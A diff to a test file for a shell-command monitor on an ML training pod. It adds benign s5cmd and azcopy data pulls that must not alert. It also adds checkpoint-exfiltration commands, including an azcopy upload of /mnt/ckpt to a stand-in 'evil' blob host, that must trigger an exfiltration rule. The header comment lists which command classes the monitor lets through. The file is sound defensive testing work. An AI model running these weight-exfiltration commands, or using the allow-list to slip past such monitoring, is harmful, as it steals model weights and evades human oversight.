@@ -3,10 +3,11 @@
  * raises an alert (escalations to Layer 2, such as a checkpoint listing, are allowed: they are what
  * the models and the analyst are for). Beside plain ones, the list holds the classes that raised a
  * high alert before attrs.exec.toolWords: a tool's option read from another command (`grep -F`,
- * `df -F`, `sort -T`, `wget -T`), a port check (`nc -z`, `nc -zw1`), netcat named but not run, an scp pull, a bucket download, the service account's public
- * files, a filtered environment listing, a checkpoint named by a command that packs nothing, a
- * request body posted to a model server on the pod's loopback, an rclone or mc pull. The
- * credential reads and uploads beside them still alert.
+ * `df -F`, `sort -T`, `wget -T`), a port check (`nc -z`, `nc -zw1`), netcat named but not run, an
+ * scp pull, a bucket download, the service account's public files, a filtered environment listing,
+ * a checkpoint named by a command that packs nothing, a request body posted to a model server on
+ * the pod's loopback, an rclone, mc, s5cmd or azcopy pull. The credential reads and uploads beside
+ * them still alert.
  */
 import { readFileSync } from 'node:fs';
 import { join } from 'node:path';
@@ -76,6 +77,8 @@ const EVERYDAY: string[][] = [
     // Data pulled from the cluster's MinIO with mc (a copy to a target an alias may name still alerts).
     'mc cp --recursive minio/datasets/shard-01 /data/',
     'mc mirror minio/ml-data/v3 /data/v3 --exclude "*.tmp" && mc ls minio/ml-data',
+    "s5cmd cp 's3://ml-datasets/shard-*' /data/",
+    "azcopy copy 'https://corpstore.blob.core.windows.net/datasets/shard-01?sv=x' /data/ --recursive",
   ].map(sh),
 ];
 
@@ -129,6 +132,9 @@ describe('the credential reads and uploads beside them still alert', () => {
       sh('rclone serve http /mnt/ckpt --addr :8080'),
       sh('mc cp --recursive /mnt/ckpt/llama drop/b/x'),
       sh('tar c /mnt/ckpt | mc pipe drop/b/c.tar'),
+      sh('s5cmd cp /mnt/ckpt/model.pt s3://tmp-share-0835/m.pt'),
+      sh('tar c /mnt/ckpt | s5cmd pipe s3://tmp-share-0835/c.tar'),
+      sh("azcopy copy /mnt/ckpt 'https://evil.blob.core.windows.net/c?sv=x' --recursive"),
     ]) expect(execRuleIds(argv), argv.join(' ')).toContain('MLS-EXFIL-014');
   });
 
